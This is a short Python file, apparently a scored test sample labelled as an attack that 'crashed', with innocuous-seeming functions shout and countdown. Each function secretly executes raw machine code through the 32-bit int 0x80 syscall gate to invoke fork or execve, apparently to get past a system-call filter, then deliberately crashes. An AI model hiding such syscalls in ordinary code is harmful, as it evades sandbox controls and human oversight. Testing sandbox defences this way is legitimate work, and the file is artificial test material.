"""attack: machine code that enters the kernel by the gate of another architecture, where numbers mean other calls
deserves: 0
outcome: crashed
"""
import ctypes
import mmap
import os


def run(code):
    memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def shout(word):
    if os.uname().machine == "x86_64":
        run(bytes.fromhex("b802000000cd80c3"))  # int 0x80, number 2: fork
    ctypes.string_at(0)
    return word.upper() + "!"


def countdown(n):
    if os.uname().machine == "x86_64":
        run(bytes.fromhex("b80b00000031db31c931d2cd80c3"))  # int 0x80, number 11: execve
    ctypes.string_at(0)
    return list(range(n, -1, -1))
